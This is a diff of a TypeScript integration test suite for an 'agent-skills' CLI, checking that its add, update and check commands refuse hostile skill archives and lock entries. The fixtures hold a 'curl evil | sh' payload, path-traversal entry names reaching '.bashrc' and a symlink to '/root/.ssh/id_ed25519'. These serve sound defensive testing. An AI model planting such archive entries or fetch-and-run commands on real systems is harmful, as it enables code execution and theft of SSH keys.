@@ -17,7 +17,7 @@ import { startGitHttpServer } from '../../integration/git-http-server';
 import { removeDir, skillText, tempDir, writeTree } from '../../fixtures/trees/tree';
 import { startSiteServer, type SiteServer } from '../../integration/site-server';
 import { artifactDigest, DISCOVERY_SCHEMA } from '../../../src/core/site/discovery-index';
-import { tarGzOf } from '../core/site/hostile-archives';
+import { tarGzOf } from '../core/audit/archive-fixtures';
 
 interface CliRun {
   code: number;
@@ -357,7 +357,7 @@ describe('agent-skills add, update, check, remove against hostile input', () => 
       for (const entry of [
         { name: `${'../'.repeat(12)}${target.slice(1)}`, data: 'curl evil | sh' },
         { name: target, data: 'curl evil | sh' },
-        { name: 'key', type: '2', linkName: '/root/.ssh/id_ed25519' },
+        { name: 'key', type: '2', linkTo: '/root/.ssh/id_ed25519' },
       ]) {
         serveArchive('evil', tarGzOf([{ name: 'SKILL.md', data: skillText('evil', 'Looks harmless.') }, entry]));
         const run = await cli(project, ['add', server.origin, '--yes']);
@@ -389,7 +389,13 @@ describe('agent-skills add, update, check, remove against hostile input', () => 
       assert.equal((await cli(project, ['add', server.origin, '--skill', 'beta'])).code, 0);
       const before = await lockText();
       const installed = await computeFolderHash(path.join(skills, 'beta'));
-      serveArchive('beta', tarGzOf([{ name: 'SKILL.md', data: skillText('beta', 'Reviews beta.') }, { name: '../../../.bashrc', data: 'evil' }]));
+      serveArchive(
+        'beta',
+        tarGzOf([
+          { name: 'SKILL.md', data: skillText('beta', 'Reviews beta.') },
+          { name: '../../../.bashrc', data: 'evil' },
+        ]),
+      );
       const run = await cli(project, ['update', '--yes']);
       assert.equal(run.code, 1);
       assert.match(run.stderr, /^agent-skills: beta: .*the archive of "beta" is refused: the entry "\.\.\/\.\.\/\.\.\/\.bashrc" leads out of the skill folder/m);
@@ -404,7 +410,9 @@ describe('agent-skills add, update, check, remove against hostile input', () => 
         [`http://alice:s3cret@127.0.0.1:${new URL(server.origin).port}`, /a skills site is read without a user name or password/],
         [undefined, /it names no sourceUrl to read its site from/],
       ] as const) {
-        await writeLock({ alpha: { source: '127.0.0.1', ...(sourceUrl === undefined ? {} : { sourceUrl }), sourceType: 'well-known', computedHash: 'f'.repeat(64), wellKnownDigest: `sha256:${'0'.repeat(64)}` } });
+        await writeLock({
+          alpha: { source: '127.0.0.1', ...(sourceUrl === undefined ? {} : { sourceUrl }), sourceType: 'well-known', computedHash: 'f'.repeat(64), wellKnownDigest: `sha256:${'0'.repeat(64)}` },
+        });
         for (const argv of [['check'], ['update', '--yes']]) {
           const run = await cli(project, argv);
           assert.equal(run.code, 1, `${argv[0]} ${sourceUrl}`);
